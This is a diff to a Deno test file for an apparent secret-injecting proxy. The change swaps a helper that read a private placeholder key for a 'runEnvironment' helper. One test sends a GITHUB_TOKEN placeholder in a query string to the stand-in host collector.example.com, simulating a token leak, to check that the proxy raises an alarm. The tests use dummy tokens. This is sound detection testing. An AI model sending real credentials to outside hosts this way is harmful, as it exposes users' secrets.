@@ -5,18 +5,12 @@
 
 import assert from "node:assert/strict";
 import { auditLines, waitForAudit } from "../support/audit_lines.ts";
+import { runEnvironment } from "../support/client_variables.ts";
 import { Lab } from "../support/lab.ts";
 import { RawClient } from "../support/proxy_client.ts";
 import { json } from "../support/upstream_scripts.ts";
-import { makePlaceholders } from "../../src/services/placeholders.ts";
 
 const secrets = { GITHUB_TOKEN: "ghp_real_0123456789", SENTRY_AUTH_TOKEN: "sntry-real-0123456789" };
-
-async function placeholderOf(variable: string, caFile: string): Promise<string> {
-  const path = caFile.replace(/public\/ca\.pem$/, "private/placeholder-key");
-  const key = (await Deno.readTextFile(path)).trim();
-  return makePlaceholders([variable], key).get(variable) ?? "";
-}
 
 const places = [
   { name: "a field", target: "/", field: (value: string) => `X-Note: ${value}\r\n` },
@@ -34,7 +28,7 @@ for (const { name, target, field } of places) {
     const upstream = await lab.upstream(["sentry.io:443", "api.github.com:443"], json({}));
     const proxy = await lab.proxy({ secrets });
     const ca = await Deno.readTextFile(proxy.caFile);
-    const value = await placeholderOf("GITHUB_TOKEN", proxy.caFile);
+    const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
     const path = typeof target === "string" ? target : target(value);
     using home = await RawClient.tunnel(proxy.url, { target: "api.github.com:443", ca });
     await home.get(path, `Host: api.github.com\r\n${field(value)}`);
@@ -54,7 +48,7 @@ Deno.test("a placeholder in clear text raises an alarm too", async () => {
   await using lab = await Lab.create();
   lab.plainUpstream(["collector.example.com:80"], json({}));
   const proxy = await lab.proxy({ secrets });
-  const value = await placeholderOf("GITHUB_TOKEN", proxy.caFile);
+  const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
   using client = await RawClient.connect(proxy.url);
   await client.get(`http://collector.example.com/?t=${value}`, "Host: collector.example.com\r\n");
   const [alarm] = await waitForAudit(proxy, { kind: "alarm", count: 1 });
@@ -66,7 +60,7 @@ Deno.test("a placeholder in a body is no alarm", async () => {
   await lab.upstream(["sentry.io:443"], json({}));
   const proxy = await lab.proxy({ secrets });
   const ca = await Deno.readTextFile(proxy.caFile);
-  const value = await placeholderOf("GITHUB_TOKEN", proxy.caFile);
+  const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
   using client = await RawClient.tunnel(proxy.url, { target: "sentry.io:443", ca });
   const head = `POST / HTTP/1.1\r\nHost: sentry.io\r\nContent-Length: ${value.length}\r\n\r\n`;
   await client.send(head + value);
